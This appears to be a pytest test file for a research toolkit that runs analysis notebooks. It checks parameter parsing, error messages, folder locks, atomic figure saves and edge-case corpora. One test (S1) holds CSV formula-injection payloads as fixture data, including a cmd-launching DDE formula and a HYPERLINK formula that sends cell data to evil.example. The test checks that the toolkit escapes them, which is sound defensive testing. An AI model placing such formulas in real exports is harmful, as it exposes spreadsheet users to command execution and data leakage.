"""Findings of the 2026-11-23 bad-input review that concern the runner, figures and notebooks 01-04.

One test (or a few) per finding, named with the finding's id: W2 and C8 (runner parameters and
errors), F1 and F2 (concurrent and killed runs), S1 (formulas in CSVs), X3 (unwritable
figures folder), C10 (empty tables), C11 (bad KWIC pattern), X4 (one-outlet and tiny corpora).
"""

import json
import os
import socket
import subprocess
import sys
import warnings
from pathlib import Path

import matplotlib

matplotlib.use("Agg")
import matplotlib.pyplot as plt  # noqa: E402
import nbformat  # noqa: E402
import pandas as pd  # noqa: E402
import pytest  # noqa: E402

import corpus_tools as ct  # noqa: E402
from corpus_tools import figures, plots, terms  # noqa: E402
from corpus_tools.errors import ParameterError  # noqa: E402
from corpus_tools.figures import LOCK_NAME, FiguresLockedError, figure_run  # noqa: E402
from corpus_tools.paths import NOTEBOOKS_DIR  # noqa: E402
from corpus_tools.run import NotebookError, convert_parameter, main, run_notebook  # noqa: E402

NB03 = NOTEBOOKS_DIR / "03-count-terms.ipynb"
NB = {p.name[:2]: p for p in NOTEBOOKS_DIR.glob("0[0-4]-*.ipynb")}
FIXTURE_CORPUS = Path(__file__).parent / "fixtures" / "corpus"


def write_study(path: Path, corpus: Path, **keys) -> Path:
    """A study file at ``path`` for ``corpus``; ``keys`` are ``section__key=value`` (TOML values)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    sections: dict[str, list[str]] = {"corpus": [f"path = {json.dumps(str(corpus))}"]}
    for name, value in keys.items():
        section, key = name.split("__")
        sections.setdefault(section, []).append(f"{key} = {json.dumps(value)}")
    path.write_text("".join(f"[{s}]\n" + "\n".join(lines) + "\n\n" for s, lines in sections.items()), encoding="utf-8")
    return path


def figures_to(folder: Path) -> str:
    """``-p SETTINGS`` that sends the seeds' figures to ``folder``."""
    return json.dumps({"output.figures": str(folder)})


def write_corpus(folder: Path, articles: dict[str, tuple[str, str]]) -> Path:
    """``{file: (outlet, text)}`` -> a corpus folder with a manifest."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, (_, text) in articles.items():
        (folder / name).write_text(text, encoding="utf-8")
    rows = "".join(f"{name},{outlet}\n" for name, (outlet, _) in articles.items())
    (folder / "manifest.csv").write_text("file,outlet\n" + rows, encoding="utf-8")
    return folder


#: Two articles with no quotation and no actor of the dictionary (weather and sport).
QUIET = {
    "a.txt": ("Weather Daily", "Storm hits the coast\n\nHeavy rain fell on the coast on Tuesday. Roads were closed for hours.\n\n"
                               "Forecasters expect more rain tomorrow. Schools stay open.\n"),
    "b.txt": ("Sport News", "Local team wins the cup\n\nThe home side won the final by two goals. Fans celebrated in the streets.\n\n"
                            "The coach praised the players. The season ends next week.\n"),
}


def run_main(capsys, *argv):
    rc = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return rc, out, err


def one_error_line(err: str) -> str:
    lines = [line for line in err.splitlines() if line.strip() and "WARNING" not in line]
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert "Traceback" not in err
    return lines[0]


# ---------------------------------------------------------------- W2: -p values reach the notebook verbatim


def echo_notebook(path: Path) -> Path:
    """A notebook that writes the parameters it got to FIGURES_DIR/values.json."""
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    params = nbformat.v4.new_code_cell(
        'CORPUS: str = "seeds"  # a path\nFIGURES_DIR: str = "figures"  # a folder\nSAMPLE: int = 0  # an int\n'
        "CI: float = 0.95  # a float\nLEMMATIZE: bool = True  # a bool\nGROUPS: list = []  # a list\n"
    )
    params.metadata["tags"] = ["parameters"]
    body = nbformat.v4.new_code_cell(
        "import json, pathlib\n"
        "pathlib.Path(FIGURES_DIR).mkdir(parents=True, exist_ok=True)\n"
        "values = {k: [type(v).__name__, v] for k, v in dict(CORPUS=CORPUS, SAMPLE=SAMPLE, CI=CI, LEMMATIZE=LEMMATIZE, GROUPS=GROUPS).items()}\n"
        "(pathlib.Path(FIGURES_DIR) / 'values.json').write_text(json.dumps(values))\n"
    )
    nb.cells = [params, body]
    nbformat.write(nb, path)
    return path


def test_W2_path_with_hash_reaches_the_notebook_verbatim(tmp_path, capsys):
    nb = echo_notebook(tmp_path / "echo.ipynb")
    figs = tmp_path / "figs"
    corpus = "/data/run #2\nyes: ~ - x"
    rc, out, err = run_main(capsys, nb, "-p", "CORPUS", corpus, "-p", "FIGURES_DIR", figs, "-p", "SAMPLE", "2022",
                            "-p", "CI", "0.9", "-p", "LEMMATIZE", "no", "-p", "GROUPS", '["Russia", "NATO"]',
                            "--output-dir", tmp_path / "executed", "-k", "python3")
    assert rc == 0, err
    values = json.loads((figs / "values.json").read_text())
    assert values == {"CORPUS": ["str", corpus], "SAMPLE": ["int", 2022], "CI": ["float", 0.9],
                      "LEMMATIZE": ["bool", False], "GROUPS": ["list", ["Russia", "NATO"]]}
    assert not (figs / LOCK_NAME).exists()


def test_W2_study_path_with_hash_and_spaces_reaches_the_notebook_verbatim(tmp_path, capsys):
    study = write_study(tmp_path / "run #2 my study: a - b" / "study.toml", FIXTURE_CORPUS, output__figures="figs")
    rc, out, err = run_main(capsys, NB["00"], "-p", "STUDY", study, "-p", "SETTINGS", '{"corpus.sample": 2}',
                            "--output-dir", tmp_path / "executed", "-k", "python3")
    assert rc == 0, err
    executed = nbformat.read(tmp_path / "executed" / NB["00"].name, as_version=4)
    injected = next(c for c in executed.cells if "injected-parameters" in c.metadata.get("tags", []))
    assert f"STUDY = {str(study)!r}" in injected.source or f'STUDY = "{study}"' in injected.source
    assert "2 articles from" in "".join(o.get("text", "") for c in executed.cells for o in c.get("outputs", []))
    assert sorted({p.suffix for p in (study.parent / "figs").iterdir()}) == [".csv", ".png", ".svg"]


@pytest.mark.parametrize("text", ["/data/run #2", "/data/a\nb", "yes", "no", "on", "~", "null", "2022", "0x10", "a: b", "- x",
                                  "@archive/2022", "`x`", "%x", "|x", ">x", "*x", "!x", "'x", '"x"', ""])
def test_W2_a_str_parameter_is_never_parsed(text):
    assert convert_parameter("CORPUS", text, "str") == text


@pytest.mark.parametrize(
    "text, type_name, value",
    [("20", "int", 20), ("-3", "int", -3), ("0.9", "float", 0.9), ("1", "float", 1.0), ("yes", "bool", True),
     ("False", "bool", False), ("0", "bool", False), ('["a", "b #c"]', "list", ["a", "b #c"]), ("[]", "list[str]", []),
     ('{"a": 1}', "dict", {"a": 1}), ("2022", None, "2022"), ("2022", "Optional[str]", "2022")],
)
def test_W2_values_follow_the_declared_type(text, type_name, value):
    got = convert_parameter("P", text, type_name)
    assert got == value and type(got) is type(value)


def test_W2_yaml_and_raw_flags(tmp_path, capsys, monkeypatch):
    seen = {}
    monkeypatch.setattr("corpus_tools.run.run_notebook", lambda nb, **kw: seen.setdefault(nb.name, kw["parameters"]) and tmp_path)
    study = str(NB03.parents[1] / "seeds" / "study.toml")
    rc, _, err = run_main(capsys, NB03, "-r", "STUDY", study,
                          "-y", "SETTINGS", f"{{uncertainty.seed: 0x10, terms.nodes: [a, b], output.figures: '{tmp_path / 'f'}'}}",
                          "--output-dir", tmp_path / "x")
    assert rc == 0, err
    assert seen[NB03.name] == {"STUDY": study,
                               "SETTINGS": {"uncertainty.seed": 16, "terms.nodes": ["a", "b"], "output.figures": str(tmp_path / "f")}}


def test_W2_settings_paths_are_made_absolute_before_the_kernel_starts(tmp_path, capsys, monkeypatch):
    """The kernel runs in the project root: a relative path among the SETTINGS is read from here, as --set reads it."""
    seen = {}
    monkeypatch.setattr("corpus_tools.run.run_notebook", lambda nb, **kw: seen.setdefault(nb.name, kw["parameters"]) and tmp_path)
    monkeypatch.chdir(tmp_path)
    rc, _, err = run_main(capsys, NB03, "-p", "SETTINGS", '{"output.figures": "rel figs", "corpus.sample": "2"}', "--output-dir", "x")
    assert rc == 0, err
    assert seen[NB03.name] == {"SETTINGS": {"output.figures": str(tmp_path / "rel figs"), "corpus.sample": 2}}


# ---------------------------------------------------------------- C8: one error line, exit status 1


@pytest.mark.parametrize(
    "args, message",
    [
        (["-p", "SETTINGS", "corpus.sample=2"], "parameter SETTINGS must be a JSON dict"),
        (["-p", "SETTINGS", '["corpus.sample", 2]'], "parameter SETTINGS must be a JSON dict"),
        (["-p", "SETTINGS", '{"corpus.sample": "0x10"}'], "overrides: corpus.sample must be an integer, got '0x10'"),
        (["-p", "SETTINGS", '{"terms.lemmatize": "maybe"}'], "overrides: terms.lemmatize must be true or false"),
        (["-p", "SETTINGS", '{"terms.nodes": "security"}'], "overrides: terms.nodes must be a JSON list of strings"),
        (["-p", "SETTINGS", '{"terms.min_cont": 5}'], "overrides: unknown key terms.min_cont (did you mean terms.min_count?)"),
        (["-p", "STUDY", "/no/such/study.toml"], "/no/such/study.toml: study file not found"),
        (["-y", "STUDY", "@archive/2022"], "parameter STUDY: '@archive/2022' is not valid YAML"),
        (["-y", "STUDY", "`x"], "parameter STUDY: '`x' is not valid YAML"),
        (["-y", "STUDY", "'x"], "parameter STUDY: \"'x\" is not valid YAML"),
        (["-p", "CORPSE", "seeds"], "unknown parameter(s) ['CORPSE']"),
    ],
)
def test_C8_bad_value_gives_one_error_line_and_status_1(tmp_path, capsys, args, message):
    rc, out, err = run_main(capsys, NB03, *args, "--output-dir", tmp_path / "x")
    assert rc == 1
    assert message in one_error_line(err)
    assert "running" not in out  # nothing ran


def test_C8_unwritable_output_dir_gives_one_error_line(tmp_path, capsys):
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    rc, out, err = run_main(capsys, NB03, "-p", "SETTINGS", figures_to(tmp_path / "f"), "--output-dir", blocker / "executed")
    assert rc == 1
    line = one_error_line(err)
    assert "--output-dir" in line and str(blocker / "executed") in line


def test_C8_missing_notebook_gives_one_error_line(tmp_path, capsys):
    rc, _, err = run_main(capsys, tmp_path / "nope.ipynb", "--output-dir", tmp_path / "x")
    assert rc == 1 and "notebook not found" in one_error_line(err)


# ---------------------------------------------------------------- X3: the figures folder checked before any analysis


def test_X3_unwritable_figures_dir_fails_before_any_notebook_runs(tmp_path, capsys):
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    rc, out, err = run_main(capsys, NB03, "-p", "SETTINGS", figures_to(blocker / "figs"), "--output-dir", tmp_path / "x")
    assert rc == 1 and "running" not in out
    line = one_error_line(err)
    assert "output.figures" in line and str(blocker / "figs") in line


def test_X3_notebook_alone_fails_in_the_study_cell_on_an_unwritable_figures_folder(tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    with pytest.raises(NotebookError) as info:
        run_notebook(NB03, output_dir=tmp_path / "x", kernel_name="python3",
                     parameters={"SETTINGS": {"output.figures": str(blocker / "figs")}})
    message = str(info.value)
    assert "failed in cell 4:" in message  # right after the parameters, before the tables are built
    assert "parameter output.figures: cannot write figures to" in message and str(blocker / "figs") in message


def test_X3_check_writable_names_the_folder(tmp_path):
    assert figures.check_writable(tmp_path / "new" / "figs") == tmp_path / "new" / "figs"
    assert (tmp_path / "new" / "figs").is_dir() and not list((tmp_path / "new" / "figs").iterdir())
    (tmp_path / "file").write_text("x")
    with pytest.raises(ParameterError, match=r"parameter FIGURES_DIR: cannot write figures to '.*file/figs'"):
        figures.check_writable(tmp_path / "file" / "figs")


@pytest.mark.parametrize("key", ["00", "01", "02", "03", "04"])
def test_X3_notebooks_check_the_figures_folder_right_after_the_parameters(key):
    cells = [c for c in nbformat.read(NB[key], as_version=4).cells if c.cell_type == "code"]
    where = [i for i, c in enumerate(cells) if "check_writable" in c.source]
    params = [i for i, c in enumerate(cells) if "parameters" in c.metadata.get("tags", [])]
    assert where == [params[0] + 1] and "ct.load_study(" in cells[where[0]].source
    assert cells[where[0]].source.index("check_writable") < cells[where[0]].source.index("ct.build_tables(")


# ---------------------------------------------------------------- F1: one run at a time per figures folder


def test_F1_second_run_into_the_same_folder_fails_at_once(tmp_path, capsys):
    figs = tmp_path / "figs"
    with figure_run(figs):
        lock = figs / LOCK_NAME
        held = json.loads(lock.read_text())
        assert held["pid"] == os.getpid() and held["host"] == socket.gethostname()
        with pytest.raises(FiguresLockedError, match=rf"pid {os.getpid()} .*{LOCK_NAME}"):
            with figure_run(figs):
                pass
        rc, out, err = run_main(capsys, NB03, "-p", "SETTINGS", figures_to(figs), "--output-dir", tmp_path / "x")
        assert rc == 1 and "running" not in out
        line = one_error_line(err)
        assert str(lock) in line and f"pid {os.getpid()}" in line
        assert lock.exists()
    assert not lock.exists()


def test_F1_stale_lock_of_a_dead_run_is_taken_over_with_a_warning(tmp_path):
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    figs = tmp_path / "figs"
    figs.mkdir()
    (figs / LOCK_NAME).write_text(json.dumps({"pid": proc.pid, "host": socket.gethostname(), "started": "earlier"}))
    (figs / ".corpus-tools-tmp-00-x.png.abc").write_bytes(b"half a png")  # left by the killed run
    with pytest.warns(UserWarning, match=rf"did not finish \(pid {proc.pid}"):
        with figure_run(figs):
            assert json.loads((figs / LOCK_NAME).read_text())["pid"] == os.getpid()
    assert list(figs.iterdir()) == []


def test_F1_lock_of_another_host_is_not_taken_over(tmp_path):
    figs = tmp_path / "figs"
    figs.mkdir()
    (figs / LOCK_NAME).write_text(json.dumps({"pid": 1, "host": "another-host", "started": "earlier"}))
    with pytest.raises(FiguresLockedError, match="pid 1 on another-host"):
        with figure_run(figs):
            pass


# ---------------------------------------------------------------- F2: no half-written files


def small_figure():
    fig, ax = plt.subplots()
    ax.bar(["a", "b"], [1.0, 2.5])
    return fig, pd.DataFrame({"x": ["a", "b"], "y": [1.0, 2.5]})


def test_F2_a_failed_save_leaves_the_old_files_whole(tmp_path, monkeypatch):
    fig, data = small_figure()
    paths = ct.save_figure(fig, data, "99-demo", figures_dir=tmp_path)
    before = {ext: p.read_bytes() for ext, p in paths.items()}

    def broken_savefig(self, fname, **kwargs):
        Path(fname).write_bytes(b"<svg half written")
        raise KeyboardInterrupt  # as a kill would stop it

    fig, data = small_figure()
    fig.savefig(tmp_path / "ok.png")  # png first is fine; break only the svg
    (tmp_path / "ok.png").unlink()
    original = matplotlib.figure.Figure.savefig
    monkeypatch.setattr(matplotlib.figure.Figure, "savefig",
                        lambda self, fname, **kw: broken_savefig(self, fname, **kw) if kw.get("format") == "svg" else original(self, fname, **kw))
    with pytest.raises(KeyboardInterrupt):
        ct.save_figure(fig, data.assign(y=[9, 9]), "99-demo", figures_dir=tmp_path)
    assert {ext: p.read_bytes() for ext, p in paths.items()}["svg"] == before["svg"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["99-demo.csv", "99-demo.png", "99-demo.svg"]


def test_F2_files_are_replaced_not_rewritten_in_place(tmp_path):
    fig, data = small_figure()
    paths = ct.save_figure(fig, data, "99-demo", figures_dir=tmp_path)
    inodes = {ext: p.stat().st_ino for ext, p in paths.items()}
    fig, data = small_figure()
    ct.save_figure(fig, data, "99-demo", figures_dir=tmp_path)
    assert all(paths[ext].stat().st_ino != inodes[ext] for ext in paths)  # a new file renamed over the old
    assert oct(paths["csv"].stat().st_mode & 0o777) == oct(0o666 & ~figures.UMASK)


def test_F2_the_lock_is_removed_even_when_the_run_fails(tmp_path):
    figs = tmp_path / "figs"
    with pytest.raises(RuntimeError):
        with figure_run(figs):
            raise RuntimeError("a cell failed")
    assert list(figs.iterdir()) == []


# ---------------------------------------------------------------- S1: no formulas in the figure CSVs


def test_S1_formula_cells_are_escaped_in_the_csv(tmp_path):
    fig, _ = small_figure()
    data = pd.DataFrame({
        "outlet": ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example/?"&A1,"click")',
                   "-x", "\tTab", "\rCR", "AFP", "-0.5", "+3", None],
        "value": [-1.5, 2, 3, 4, 5, 6, 7, 8, 9, 10],
    })
    path = ct.save_figure(fig, data, "99-formulas", figures_dir=tmp_path)["csv"]
    lines = path.read_bytes().decode("utf-8").split("\n")
    assert lines[1:5] == ["'=cmd|' /C calc'!A0,-1.5", "'@SUM(1+1)*cmd|' /C calc'!A0,2",
                          '"\'+HYPERLINK(""http://evil.example/?""&A1,""click"")",3', "'-x,4"]
    assert lines[5:11] == ["'\tTab,5", "'\rCR,6", "AFP,7", "-0.5,8", "+3,9", ",10"]  # numbers as text stay


# ---------------------------------------------------------------- C10: empty tables draw "no data"


def test_C10_empty_tables_draw_no_data_instead_of_crashing(tmp_path):
    empty = pd.DataFrame(columns=["outlet", "group", "n", "net", "net_low", "net_high"])
    fig = plots.plot_outlet_estimates(empty, "net", {}, panel="group", title="t", xlabel="x")
    assert [t.get_text() for t in fig.axes[0].texts] == [plots.NO_DATA]
    path = ct.save_figure(fig, empty, "99-empty", figures_dir=tmp_path)["csv"]
    assert path.read_text() == "outlet,group,n,net,net_low,net_high\n"
    for fig in (plots.plot_prominence(pd.DataFrame(columns=["outlet", "group", "per_1000_words"]), {}, title="t"),
                plots.plot_ranked_bars(pd.DataFrame(columns=["outlet", "term", "z"]), "z", "term", {}, title="t", xlabel="z"),
                plots.plot_naming(pd.DataFrame(columns=["outlet", "concept", "variant", "count", "share"]), title="t"),
                plots.plot_matrix(pd.DataFrame(columns=["a", "b", "v"]), "a", "b", "v", title="t")):
        assert fig.axes[0].texts
        plt.close(fig)


def test_C10_notebooks_02_and_04_run_without_quotations_or_actor_mentions(tmp_path):
    corpus = write_corpus(tmp_path / "quiet", QUIET)
    study = write_study(tmp_path / "study.toml", corpus, uncertainty__bootstrap=100, uncertainty__permutations=99)
    for key in ("02", "04"):
        figs = tmp_path / f"figs{key}"
        out = run_notebook(NB[key], output_dir=tmp_path / "x", kernel_name="python3",
                           parameters={"STUDY": str(study), "SETTINGS": {"output.figures": str(figs)}})
        text = out.read_text()
        if key == "02":
            assert "no quotation of 4 words or more" in text and "no actor of the dictionary is mentioned" in text
            assert (figs / "02-voice-share-by-outlet.csv").read_text().startswith("outlet,voice_group")
        assert sorted({p.suffix for p in figs.iterdir()}) == [".csv", ".png", ".svg"]


# ---------------------------------------------------------------- C11: a bad KWIC pattern fails in the parameter cell


def test_C11_bad_kwic_pattern_is_refused_in_the_parameter_cell(tmp_path):
    with pytest.raises(NotebookError) as info:
        run_notebook(NB03, output_dir=tmp_path, kernel_name="python3",
                     parameters={"SETTINGS": {"terms.kwic_patterns": ["security guarantees?", "security [guarantee"],
                                              "output.figures": str(tmp_path / "f")}})
    message = str(info.value)
    assert ("StudyError: overrides: terms.kwic_patterns: pattern 'security [guarantee' is not a valid regular expression"
            in message)
    assert "failed in cell 4:" in message  # the study cell, before any analysis (cell 3 is papermill's)


# ---------------------------------------------------------------- X4: one outlet, tiny corpus


def test_X4_keyness_says_why_it_cannot_run(seed_articles):
    content = terms.term_table(ct.tokens(seed_articles))
    with pytest.raises(terms.KeynessError, match="at least two groups") as info:
        terms.keyness(content, seed_articles.assign(outlet="same"), n_perm=0)
    assert info.value.reason == "groups" and isinstance(info.value, ValueError)
    with pytest.raises(terms.KeynessError, match="fewer than two terms occur 1000 times") as info:
        terms.keyness(content, seed_articles, min_count=1000, n_perm=0)
    assert info.value.reason == "min_count"


def test_X4_notebook_03_on_a_one_outlet_corpus_skips_keyness_and_runs_to_the_end(tmp_path):
    one = {name: ("Only Outlet", text) for name, (_, text) in QUIET.items()}
    corpus = write_corpus(tmp_path / "one", one)
    figs = tmp_path / "figs"
    study = write_study(tmp_path / "study.toml", corpus, uncertainty__permutations=99, output__figures=str(figs))
    out = run_notebook(NB03, output_dir=tmp_path / "x", kernel_name="python3", parameters={"STUDY": str(study)})
    assert "keyness skipped: keyness needs at least two groups" in out.read_text()
    assert (figs / "03-keyness-by-outlet.csv").read_text().startswith("outlet,term,")
    assert (figs / "03-naming-choices.csv").exists()  # the cells after keyness ran
